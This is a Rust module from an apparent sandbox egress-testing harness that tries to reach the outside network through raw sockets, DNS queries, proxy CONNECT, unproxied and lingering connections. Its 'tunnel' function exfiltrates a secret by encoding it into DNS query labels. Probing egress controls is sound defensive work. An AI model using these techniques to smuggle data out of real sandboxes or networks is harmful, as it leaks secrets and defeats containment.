//! Attacks on the way out. What they are aimed at comes with the call, so that one table serves every kind of sandbox.

use std::fmt::Write as _;
use std::fs;
use std::io::{Error, ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::sync::Mutex;
use std::thread;
use std::time::Duration;

use serde_json::{Map, Value};

use crate::{Attack, text, told};

type Arguments = Map<String, Value>;

pub(crate) const ATTACKS: &[Attack] = &[
    // To an address: `to`, `port`, `send`.
    ("tcp", |arguments| told(tcp(address(arguments), text(arguments, "send").as_bytes()), |reply| reply)),
    ("udp", |arguments| told(udp(address(arguments), text(arguments, "send").as_bytes()), |reply| reply)),
    ("icmp", |arguments| told(icmp(text(arguments, "to")), |()| "an echo".into())),
    ("raw", |arguments| told(raw(text(arguments, "to"), libc::AF_INET, libc::IPPROTO_UDP), |()| "sent".into())),
    ("raw_tcp", |arguments| told(raw(text(arguments, "to"), libc::AF_INET, libc::IPPROTO_RAW), |()| "sent".into())),
    ("packet", |_| told(packet(), |()| "a packet socket".into())),
    // To a name, as every program does it: `name`, `port`, `send`.
    ("request", request),
    // The same with `to` in place of `name`.
    ("tls", |arguments| told(begin_tls(arguments), |reply| reply)),
    // For a neighbour to find.
    ("serve", |_| told(serve(), |at| at.to_string())),
    ("resolve", |arguments| told(resolve(text(arguments, "name")), |found| found.to_string())),
    // A question of its own making: `name`, `kind`, `server` (else the sandbox's), `tcp`.
    ("ask", |arguments| ask(arguments)),
    ("tunnel", |arguments| tunnel(text(arguments, "name"), text(arguments, "secret"))),
    ("connect", |arguments| told(connect(text(arguments, "target")), |reply| reply)),
    ("unproxied", |arguments| unproxied(arguments)),
    // Over the end of a call.
    ("keep", |arguments| told(keep(arguments), |()| "kept".into())),
    ("use_kept", |arguments| told(use_kept(text(arguments, "send").as_bytes()), |reply| reply)),
    ("later", |arguments| later(arguments.clone())),
    ("told_later", |_| LATER.lock().map(|mut told| std::mem::take(&mut *told)).unwrap_or_default()),
    ("interfaces", |_| told(fs::read_to_string("/proc/net/dev"), |text| text)),
];

static KEPT: Mutex<Option<TcpStream>> = Mutex::new(None);
static LATER: Mutex<String> = Mutex::new(String::new());

/// What is not answered by then is not answered.
const PATIENCE: Duration = Duration::from_secs(2);

fn port(arguments: &Arguments) -> u16 {
    arguments.get("port").and_then(Value::as_u64).unwrap_or(80) as u16
}

fn address(arguments: &Arguments) -> Result<SocketAddr, Error> {
    let to: IpAddr = text(arguments, "to").parse().map_err(Error::other)?;
    Ok((to, port(arguments)).into())
}

fn resolve(name: &str) -> Result<IpAddr, Error> {
    let mut found = (name, 0).to_socket_addrs()?;
    found.next().map(|found| found.ip()).ok_or_else(|| ErrorKind::NotFound.into())
}

fn dial(to: SocketAddr) -> Result<TcpStream, Error> {
    let stream = TcpStream::connect_timeout(&to, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Sends, and shows the first of what comes back; nothing back is a failure.
fn exchange(stream: &mut TcpStream, send: &[u8]) -> Result<String, Error> {
    stream.write_all(send)?;
    if memmem(send, b"Connection: close") {
        let mut whole = Vec::new();
        // Whatever came before it broke off.
        let read = stream.take(64 << 10).read_to_end(&mut whole);
        return if whole.is_empty() {
            Err(read.err().unwrap_or(ErrorKind::UnexpectedEof.into()))
        } else {
            Ok(String::from_utf8_lossy(&whole).into_owned())
        };
    }
    let mut reply = [0; 2048];
    match stream.read(&mut reply)? {
        0 => Err(ErrorKind::UnexpectedEof.into()),
        read => Ok(String::from_utf8_lossy(&reply[..read]).into_owned()),
    }
}

fn memmem(whole: &[u8], part: &[u8]) -> bool {
    whole.windows(part.len()).any(|window| window == part)
}

fn tcp(to: Result<SocketAddr, Error>, send: &[u8]) -> Result<String, Error> {
    exchange(&mut dial(to?)?, send)
}

fn named(arguments: &Arguments, send: &[u8]) -> Result<String, Error> {
    tcp(resolve(text(arguments, "name")).map(|found| (found, port(arguments)).into()), send)
}

/// To a name, as every program does it.
pub(crate) fn request(arguments: &Arguments) -> String {
    told(named(arguments, text(arguments, "send").as_bytes()), |reply| reply)
}

fn begin_tls(arguments: &Arguments) -> Result<String, Error> {
    let hello = client_hello(text(arguments, "sni"));
    if text(arguments, "to").is_empty() { named(arguments, &hello) } else { tcp(address(arguments), &hello) }
}

/// Answers whoever comes to port 7777 of the address that it says.
fn serve() -> Result<IpAddr, Error> {
    let listener = TcpListener::bind("0.0.0.0:7777")?;
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            drop((&stream).write_all(b"the neighbour answers\n"));
        }
    });
    let own = UdpSocket::bind("0.0.0.0:0")?;
    own.connect("198.51.100.77:9")?;
    Ok(own.local_addr()?.ip())
}

fn udp(to: Result<SocketAddr, Error>, send: &[u8]) -> Result<String, Error> {
    let to = to?;
    let any: SocketAddr =
        if to.is_ipv4() { (Ipv4Addr::UNSPECIFIED, 0).into() } else { "[::]:0".parse().map_err(Error::other)? };
    let socket = UdpSocket::bind(any)?;
    socket.set_read_timeout(Some(PATIENCE))?;
    for _ in 0..3 {
        socket.send_to(send, to)?;
    }
    let mut reply = [0; 2048];
    let (read, _) = socket.recv_from(&mut reply)?;
    Ok(String::from_utf8_lossy(&reply[..read]).into_owned())
}

fn os(result: impl Into<i64>) -> Result<i64, Error> {
    let result = result.into();
    if result < 0 { Err(Error::last_os_error()) } else { Ok(result) }
}

fn open(family: i32, kind: i32, protocol: i32) -> Result<i32, Error> {
    os(unsafe { libc::socket(family, kind, protocol) }).map(|descriptor| descriptor as i32)
}

fn target(to: &str) -> Result<libc::sockaddr_in, Error> {
    let to: Ipv4Addr = to.parse().map_err(Error::other)?;
    Ok(libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from(to).to_be() },
        sin_zero: [0; 8],
    })
}

fn send_to(descriptor: i32, to: &libc::sockaddr_in, bytes: &[u8]) -> Result<(), Error> {
    let length = size_of::<libc::sockaddr_in>() as u32;
    let to = std::ptr::from_ref(to).cast();
    os(unsafe { libc::sendto(descriptor, bytes.as_ptr().cast(), bytes.len(), 0, to, length) } as i64).map(drop)
}

/// Both kinds of socket that can ask for an echo.
fn icmp(to: &str) -> Result<(), Error> {
    let echo = [8, 0, 0xf7, 0xff, 0, 0, 0, 0];
    let descriptor = open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)
        .or_else(|_| open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP))?;
    send_to(descriptor, &target(to)?, &echo)?;
    let mut wait = libc::pollfd { fd: descriptor, events: libc::POLLIN, revents: 0 };
    match os(unsafe { libc::poll(&raw mut wait, 1, 2000) })? {
        0 => Err(ErrorKind::TimedOut.into()),
        _ => Ok(()),
    }
}

fn raw(to: &str, family: i32, protocol: i32) -> Result<(), Error> {
    let descriptor = open(family, libc::SOCK_RAW, protocol)?;
    send_to(descriptor, &target(to)?, &[0; 28])
}

fn packet() -> Result<(), Error> {
    open(libc::AF_PACKET, libc::SOCK_RAW, i32::from(0x0003_u16.to_be())).map(drop)
}

/// The resolver that the sandbox was given.
fn resolver() -> Result<SocketAddr, Error> {
    let config = fs::read_to_string("/etc/resolv.conf")?;
    let line = config.lines().find_map(|line| line.strip_prefix("nameserver"));
    let address: IpAddr = line.unwrap_or_default().trim().parse().map_err(Error::other)?;
    Ok((address, 53).into())
}

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.').filter(|label| !label.is_empty()) {
        bytes.push(label.len() as u8);
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.push(0);
    bytes.extend_from_slice(&kind.to_be_bytes());
    bytes.extend_from_slice(&[0, 1]);
    bytes
}

fn ask(arguments: &Arguments) -> String {
    let server = match text(arguments, "server") {
        "" => resolver(),
        server => server.parse().map(|ip: IpAddr| (ip, 53).into()).map_err(Error::other),
    };
    let kind = arguments.get("kind").and_then(Value::as_u64).unwrap_or(1) as u16;
    let question = question(text(arguments, "name"), kind);
    let over_tcp = arguments.get("tcp").and_then(Value::as_bool).unwrap_or_default();
    let answered =
        server.and_then(|server| if over_tcp { asked_tcp(server, &question) } else { asked_udp(server, &question) });
    match answered {
        Ok(answer) if answer.len() > 7 && answer[3] & 15 == 0 && answer[7] > 0 => "DONE an answer".into(),
        Ok(answer) => format!("refused: code {}, nothing inside", answer.get(3).map_or(99, |code| code & 15)),
        Err(error) => format!("refused: {error}"),
    }
}

fn asked_udp(server: SocketAddr, question: &[u8]) -> Result<Vec<u8>, Error> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(question, server)?;
    let mut answer = vec![0; 2048];
    let (read, _) = socket.recv_from(&mut answer)?;
    answer.truncate(read);
    Ok(answer)
}

fn asked_tcp(server: SocketAddr, question: &[u8]) -> Result<Vec<u8>, Error> {
    let mut stream = dial(server)?;
    stream.write_all(&[&(question.len() as u16).to_be_bytes()[..], question].concat())?;
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}

/// A secret, cut into labels before a name, by every way to ask.
fn tunnel(name: &str, secret: &str) -> String {
    let mut result = String::from("refused:");
    for (n, part) in secret.as_bytes().chunks(24).enumerate() {
        let whole = format!("{n}-{}.{name}", String::from_utf8_lossy(part));
        for kind in [1, 16, 28] {
            let arguments = [("name", Value::from(whole.as_str())), ("kind", Value::from(kind))];
            let arguments = arguments.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
            if ask(&arguments).starts_with("DONE") {
                result = "DONE".into();
            }
        }
        let _ = write!(result, " {}", resolve(&whole).is_ok());
    }
    result
}

/// Through the proxy that the sandbox was given, to where it is told.
fn connect(target: &str) -> Result<String, Error> {
    let proxy = std::env::var("HTTPS_PROXY").or_else(|_| std::env::var("https_proxy")).map_err(Error::other)?;
    let proxy = proxy.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = dial(proxy.to_socket_addrs()?.next().ok_or(ErrorKind::NotFound)?)?;
    let reply = exchange(&mut stream, format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())?;
    if reply.starts_with("HTTP/1.1 200") { Ok(reply) } else { Err(Error::other(reply)) }
}

/// As a program that was never told of a proxy.
fn unproxied(arguments: &Arguments) -> String {
    told(tcp(address(arguments), b"GET /unproxied HTTP/1.0\r\n\r\n"), |reply| reply)
}

fn keep(arguments: &Arguments) -> Result<(), Error> {
    let to = resolve(text(arguments, "name"))?;
    let mut stream = dial((to, port(arguments)).into())?;
    exchange(&mut stream, text(arguments, "send").as_bytes())?;
    *KEPT.lock().map_err(|_| ErrorKind::Other)? = Some(stream);
    Ok(())
}

fn use_kept(send: &[u8]) -> Result<String, Error> {
    let mut kept = KEPT.lock().map_err(|_| Error::from(ErrorKind::Other))?;
    exchange(kept.as_mut().ok_or(ErrorKind::NotConnected)?, send)
}

/// Goes on after the call has been answered.
fn later(arguments: Arguments) -> String {
    let known = resolve(text(&arguments, "name"));
    let kept = KEPT.lock().ok().and_then(|kept| kept.as_ref().and_then(|kept| kept.try_clone().ok()));
    thread::spawn(move || {
        thread::sleep(Duration::from_millis(arguments.get("after").and_then(Value::as_u64).unwrap_or(700)));
        let send = text(&arguments, "send").as_bytes();
        let name = told(resolve(text(&arguments, "name")), |found| found.to_string());
        let connect = told(tcp(known.map(|found| (found, port(&arguments)).into()), send), |reply| reply);
        let kept = kept.ok_or_else(|| ErrorKind::NotConnected.into()).and_then(|mut kept| exchange(&mut kept, send));
        let kept = told(kept, |reply| reply);
        if let Ok(mut told) = LATER.lock() {
            *told = format!("name: {name}\nconnect: {connect}\nkept: {kept}");
        }
    });
    "it goes on".into()
}

/// How TLS begins, by hand: TLS 1.2, one cipher, and the name of a host.
fn client_hello(sni: &str) -> Vec<u8> {
    let name = [&[0][..], &(sni.len() as u16).to_be_bytes(), sni.as_bytes()].concat();
    let list = [&(name.len() as u16).to_be_bytes()[..], &name].concat();
    let extension =
        |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &(body.len() as u16).to_be_bytes(), body].concat();
    let extensions = [
        extension(0, &list),
        extension(10, &[0, 4, 0, 29, 0, 23]),
        extension(11, &[1, 0]),
        extension(13, &[0, 8, 4, 3, 8, 4, 4, 1, 8, 7]),
    ]
    .concat();
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7; 32]);
    body.extend_from_slice(&[0, 0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0]);
    body.extend_from_slice(&(extensions.len() as u16).to_be_bytes());
    body.extend_from_slice(&extensions);
    let message = [&[1, 0][..], &(body.len() as u16).to_be_bytes(), &body].concat();
    [&[22, 3, 1][..], &(message.len() as u16).to_be_bytes(), &message].concat()
}
